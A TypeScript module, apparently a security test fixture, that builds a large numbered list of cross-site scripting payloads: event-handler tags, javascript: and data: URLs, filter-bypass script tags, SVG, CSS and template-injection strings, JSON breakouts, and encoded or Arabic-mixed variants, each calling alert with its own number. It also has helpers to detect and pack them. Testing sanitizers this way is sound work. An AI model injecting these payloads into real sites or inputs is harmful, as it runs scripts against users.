/** Ways to run text as a script: each calls `alert` with its own number. */

type Make = (call: string) => string;

const EVENTS = ['onerror', 'onload', 'onclick', 'onfocus', 'onmouseover', 'onpointerenter', 'ontoggle', 'onbegin'];
const ELEMENTS = [
  (attribute: string) => `<img src=x ${attribute}>`,
  (attribute: string) => `<svg ${attribute}>`,
  (attribute: string) => `<details open ${attribute}>`,
  (attribute: string) => `<input autofocus ${attribute}>`,
  (attribute: string) => `<video><source ${attribute}></video>`,
  (attribute: string) => `<body ${attribute}>`,
  (attribute: string) => `"${attribute} x="`,
  (attribute: string) => `'${attribute} x='`,
  (attribute: string) => `</textarea><a ${attribute} href=#>`,
];
const SCHEMES = [
  'javascript:',
  'JaVaScRiPt:',
  'java\nscript:',
  'java&Tab;script:',
  '&#106;avascript:',
  '&#x6a;&#x61;vascript:',
  'javascript&colon;',
  'javascript://%0a',
  'data:text/html,<script>',
  'vbscript:',
  'feed:javascript:',
  'http://a@javascript:',
];
const LINKS = [
  (address: string) => address,
  (address: string) => `[x](${address})`,
  (address: string) => `![x](${address})`,
  (address: string) => `<${address}>`,
  (address: string) => `<a href="${address}">x</a>`,
  (address: string) => `<iframe src="${address}"></iframe>`,
  (address: string) => `https://a.example/?u=${address}`,
];
const TAGS: Make[] = [
  (call) => `<script>${call}</script>`,
  (call) => `<ScRiPt >${call}</sCrIpT>`,
  (call) => `<scr<script>ipt>${call}</script>`,
  (call) => `<script/x>${call}</script>`,
  (call) => `<script\n>${call}</script\n>`,
  (call) => `<<script>${call}//<</script>`,
  (call) => `<script src="data:,${call}"></script>`,
  (call) => `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  (call) => `<math><mtext></p><style><img title="</style><img src=x onerror=${call}>">`,
  (call) => `<template><script>${call}</script></template>`,
  (call) => `<object data="data:text/html,<script>${call}</script>">`,
  (call) => `<embed src="javascript:${call}">`,
  (call) => `<base href="javascript:${call}//">`,
  (call) => `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  (call) => `<form action="javascript:${call}"><button>x`,
  (call) => `<iframe srcdoc="<script>${call}</script>">`,
  (call) => `<title></title><script>${call}</script>`,
  (call) => `<xmp></xmp><script>${call}</script>`,
  (call) => `<!--><script>${call}</script>-->`,
  (call) => `<![CDATA[<script>${call}</script>]]>`,
];
const DRAWINGS: Make[] = [
  (call) => `<svg><script>${call}</script></svg>`,
  (call) => `<svg><script href="data:,${call}"/></svg>`,
  (call) => `<svg><a xlink:href="javascript:${call}"><text>x</text></a></svg>`,
  (call) => `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  (call) => `<svg><set attributeName=href to="javascript:${call}">`,
  (call) => `<svg><foreignObject><body onload=${call}></foreignObject></svg>`,
  (call) => `<svg><use href="data:image/svg+xml,<svg id=x onload=${call}>#x">`,
  (call) => `<math href="javascript:${call}">x</math>`,
];
const STYLES: Make[] = [
  (call) => `<style>@import 'javascript:${call}';</style>`,
  (call) => `<style>*{background:url(javascript:${call})}</style>`,
  (call) => `<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart=${call}>`,
  (call) => `<p style="width:expression(${call})">`,
  (call) => `<p style="-moz-binding:url(javascript:${call})">`,
  (call) => `<link rel=stylesheet href="javascript:${call}">`,
  (call) => `</style><script>${call}</script>`,
  (call) => `;}*{behavior:url(${call})}`,
];
const TEMPLATES: Make[] = [
  (call) => `{{constructor.constructor('${call}')()}}`,
  (call) => `{{${call}}}`,
  (call) => `{{- ${call} }} $t(common:x, {"a": "${call}"})`,
  (call) => `\${${call}}`,
  (call) => `#{${call}}`,
  (call) => `<%= ${call} %>`,
  (call) => `{% ${call} %}`,
  (call) => `[[${call}]]`,
  (call) => `@{${call}}`,
  (call) => `<0>${call}</0><1/>`,
];
const JSONS: Make[] = [
  (call) => `</script><script>${call}</script>`,
  (call) => `</SCRIPT ><script>${call}</script>`,
  (call) => `<!--<script>${call}//`,
  (call) => `"}]</script><script>${call}</script>`,
  (call) => `"};${call};//`,
  (call) => `\\"};${call};//`,
  (call) => `\\u003c/script\\u003e\\u003cscript\\u003e${call}\\u003c/script\\u003e`,
  (call) => `","@type":"x","a":"${call}`,
  (call) => `]]></content><script xmlns="http://www.w3.org/1999/xhtml">${call}</script>`,
  (call) => `--></script><img src=x onerror=${call}>`,
  (call) => `'-${call}-'`,
  (call) => `"-${call}-"`,
];
const ENCODINGS: ((payload: string) => string)[] = [
  (payload) => payload.replace(/[<>"'&]/g, (one) => `&#${one.codePointAt(0)};`),
  (payload) => payload.replace(/[<>"'&]/g, (one) => `&#x0${one.codePointAt(0)?.toString(16)}`),
  (payload) => payload.replace(/&/g, '&amp;').replace(/</g, '&lt;'),
  (payload) => encodeURIComponent(payload),
  (payload) => encodeURIComponent(encodeURIComponent(payload)),
  (payload) => payload.replace(/[<>]/g, (one) => (one === '<' ? '\\x3c' : '\\x3e')),
  (payload) => payload.replace(/[<>]/g, (one) => (one === '<' ? '＜' : '＞')),
  (payload) => payload.replace(/</g, '+ADw-').replace(/>/g, '+AD4-'),
];
const MIXED: ((payload: string) => string)[] = [
  (payload) => `نصٌّ عربي ${payload} يليه نصّ`,
  (payload) => `#وسم${payload}`,
  (payload) => `@layla ${payload} می\u200cخواهم`,
  (payload) => `www.مثال.example/${payload}`,
  (payload) => `👩\u200d👩\u200d👧${payload}\ufe0f`,
];
const SOURCES: Make[] = [
  ...ELEMENTS.flatMap((element) =>
    EVENTS.map(
      (event): Make =>
        (call) =>
          element(`${event}=${call}`),
    ),
  ),
  ...LINKS.flatMap((link) =>
    SCHEMES.map(
      (scheme): Make =>
        (call) =>
          link(scheme + call),
    ),
  ),
  ...TAGS,
  ...DRAWINGS,
  ...STYLES,
  ...TEMPLATES,
  ...JSONS,
];
const SEEDS = [...TAGS, ...DRAWINGS.slice(0, 4), ...JSONS.slice(0, 5)];
const ALL_PAYLOADS: Make[] = [
  ...SOURCES,
  ...ENCODINGS.flatMap((encode) =>
    SEEDS.map(
      (make): Make =>
        (call) =>
          encode(make(call)),
    ),
  ),
  ...MIXED.flatMap((mix) =>
    SEEDS.slice(0, 12).map(
      (make): Make =>
        (call) =>
          mix(make(call)),
    ),
  ),
];

/** All payloads; the one at index `n` calls `alert(1000 + n)`. */
export const PAYLOADS = ALL_PAYLOADS.map((make, place) => make(`alert(${1000 + place})`));

/** Returns the numbers of the payloads in a text, whatever the escaping. */
export function payloadNumbers(text: string): string[] {
  return [...text.matchAll(/alert(?:\(|%28|%2528)(1\d{3})/g)].map((found) => found[1] ?? '');
}

/** Packs all payloads into as few texts of a maximum length as possible. */
export function packPayloads(longest: number): string[] {
  const texts: string[] = [''];
  for (const payload of PAYLOADS) {
    const last = texts.at(-1) ?? '';
    if (last.length + payload.length + 1 > longest) texts.push(payload);
    else texts[texts.length - 1] = last ? `${last}\n${payload}` : payload;
  }
  return texts;
}
